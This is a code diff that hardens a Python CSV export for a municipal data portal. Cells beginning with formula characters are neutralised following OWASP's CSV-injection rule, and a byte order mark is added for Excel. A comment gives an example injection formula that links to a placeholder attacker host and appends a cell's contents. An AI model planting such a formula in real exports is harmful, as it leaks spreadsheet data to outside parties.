@@ -15,6 +15,10 @@ from . import model
 from .index import PortalIndex
 
 LIST_SEPARATOR = " | "
+# A spreadsheet runs a cell starting with one of these as a formula (=HYPERLINK("https://evil.example/?"&A1)).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# Excel opens a CSV without a byte order mark in the locale's code page: "Bağcılar" came out garbled.
+BOM = "\ufeff"
 RECORD_TYPES = {"agreements": "agreement", "memberships": "membership", "projects": "project",
                 "activities": "activity"}
 
@@ -80,6 +84,12 @@ def _cell(value) -> str:
     return str(value)
 
 
+def _inert(cell: str) -> str:
+    """OWASP's rule against CSV injection: a cell that would start a formula gets a leading apostrophe,
+    which spreadsheets show as text. Only the CSV files: the JSON keeps the data as written."""
+    return "'" + cell if cell.startswith(FORMULA_START) else cell
+
+
 def csv_text(index: PortalIndex, kind: str) -> str:
     cls = model.RECORD_KINDS[kind]
     columns = _columns(cls)
@@ -93,7 +103,7 @@ def csv_text(index: PortalIndex, kind: str) -> str:
                 value = record
                 for part in path:
                     value = getattr(value, part) if value is not None else None
-                row.append(_cell(value))
+                row.append(_inert(_cell(value)))
             writer.writerow(row)
     return out.getvalue()
 
@@ -105,7 +115,7 @@ def export_files(index: PortalIndex) -> dict[str, str]:
     for district in dataset(index)["districts"]:
         files[f"municipalities/{district['slug']}.json"] = dump(district)
     for kind in model.RECORD_KINDS:
-        files[f"{kind}.csv"] = csv_text(index, kind)
+        files[f"{kind}.csv"] = BOM + csv_text(index, kind)
         for record_id, record in index.records[kind].items():
             files[f"{kind}/{record_id}.json"] = dump(record_json(index, kind, record))
     return files
